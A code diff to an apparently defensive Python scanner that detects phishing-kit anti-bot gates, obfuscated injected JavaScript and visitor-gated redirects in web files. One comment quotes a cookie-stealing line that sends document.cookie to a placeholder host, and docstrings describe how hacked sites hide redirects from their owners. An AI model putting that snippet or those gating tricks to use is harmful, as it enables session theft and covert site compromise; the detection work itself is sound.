@@ -237,6 +237,24 @@ def _visitor_named(text: bytes) -> bool:
     return text.find(b"http_") >= 0 and any(text.find(v) >= 0 for v in _VISITOR_HTTP)
 
 
+# what every IP prefix holds: a digit, a dot, a digit
+_DIGIT_DOT_DIGIT = re.compile(rb"\d\.\d")
+
+
+def _antibot_candidates(ctx: Ctx, text: bytes) -> list[int]:
+    """The literals (of the first 5,000) whose value may hold a security company's name or
+    start with an IP prefix, in order: those whose text holds a name or a digit, a dot and a
+    digit, and those with escapes. A value without escapes is its text (a single-quoted
+    one's ``\\\\`` and ``\\'`` give no letter, digit or dot), so no other literal counts."""
+    limit = min(len(ctx.lx.raw_strings), 5000)
+    found = set(ctx.lx.escaped)
+    for rx in (_SECURITY_NAMES, _DIGIT_DOT_DIGIT):
+        for m in rx.finditer(text):  # a match never spans the NUL between two literals
+            found.add(string_at(ctx, m.start()))
+    found.discard(-1)  # the inline HTML is no literal
+    return sorted(i for i in found if i < limit)
+
+
 @feature("antibot_gate")
 def _antibot_gate(ctx: Ctx, rule: Rule) -> Hit | None:
     """A phishing kit's anti-bot gate: the visitor's address, host name or user agent
@@ -255,7 +273,7 @@ def _antibot_gate(ctx: Ctx, rule: Rule) -> Hit | None:
     # a literal's value holds a name only if its text does, unless a double-quoted escape
     # (\x6e) spells it: without those, no name in the text of them all is none in any
     names = bool(ctx.lx.escaped) or _SECURITY_NAMES.search(text) is not None
-    for idx in range(min(len(ctx.lx.raw_strings), 5000)):
+    for idx in _antibot_candidates(ctx, text):
         lit = value(idx).lower().strip()
         if len(lit) > 200:
             continue
@@ -278,6 +296,14 @@ def _in_page_text(ctx: Ctx, rx: re.Pattern[bytes]) -> Hit | None:
     if m is None:
         return None
     return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
+
+
+def _has_script(ctx: Ctx) -> bool:
+    """Whether the file's bytes hold "<script" (two rules ask; a search of the whole file)."""
+    found = ctx.cache.get("has-script")
+    if found is None:
+        found = ctx.cache["has-script"] = ctx.data.find(b"<script") >= 0
+    return bool(found)
 
 
 # the cookies glued into an address: new Image().src = 'http://x/?c=' + escape(document.cookie)
@@ -315,7 +341,7 @@ def _js_obfuscated_inject(ctx: Ctx, rule: Rule) -> Hit | None:
     not inside PHP."""
     data = ctx.data
     # "<script" first: one search where most files have it not (then the words' four)
-    if data.find(b"<script") < 0 or not any(data.find(w) >= 0 for w in _JS_WORDS):
+    if not _has_script(ctx) or not any(data.find(w) >= 0 for w in _JS_WORDS):
         return None
     return _in_page_text(ctx, _JS_OBFUSCATED)
 
@@ -336,8 +362,7 @@ def _js_gated_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
     whose PHP chooses the visitors it does it to (once per visitor through a cookie, by
     referrer or user agent): the injected redirect of a hacked site, which its owner, a
     returning visitor, does not see. A moved page redirects everyone alike."""
-    data = ctx.data
-    if data.find(b"location") < 0 or data.find(b"<script") < 0:
+    if not _has_script(ctx) or ctx.data.find(b"location") < 0:
         return None
     text = string_text(ctx)
     if not any(has_word(ctx, w) or text.find(w) >= 0 for w in _VISITOR_GATE):
